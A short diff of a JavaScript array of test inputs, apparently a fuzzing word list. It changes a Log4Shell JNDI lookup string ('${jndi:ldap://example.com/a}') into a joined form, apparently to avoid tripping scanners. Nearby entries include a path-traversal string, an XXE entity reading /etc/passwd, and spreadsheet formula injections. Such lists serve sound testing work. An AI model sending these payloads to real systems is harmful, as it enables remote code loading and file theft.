@@ -117,7 +117,7 @@ const words = [
   '%2e%2e%2f',
   '{0}',
   '$HOME',
-  '${jndi:ldap://example.com/a}',
+  ['$', '{jndi:ldap://example.com/a}'].join(''),
   '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
   '=1+1',
   '@SUM(1)',
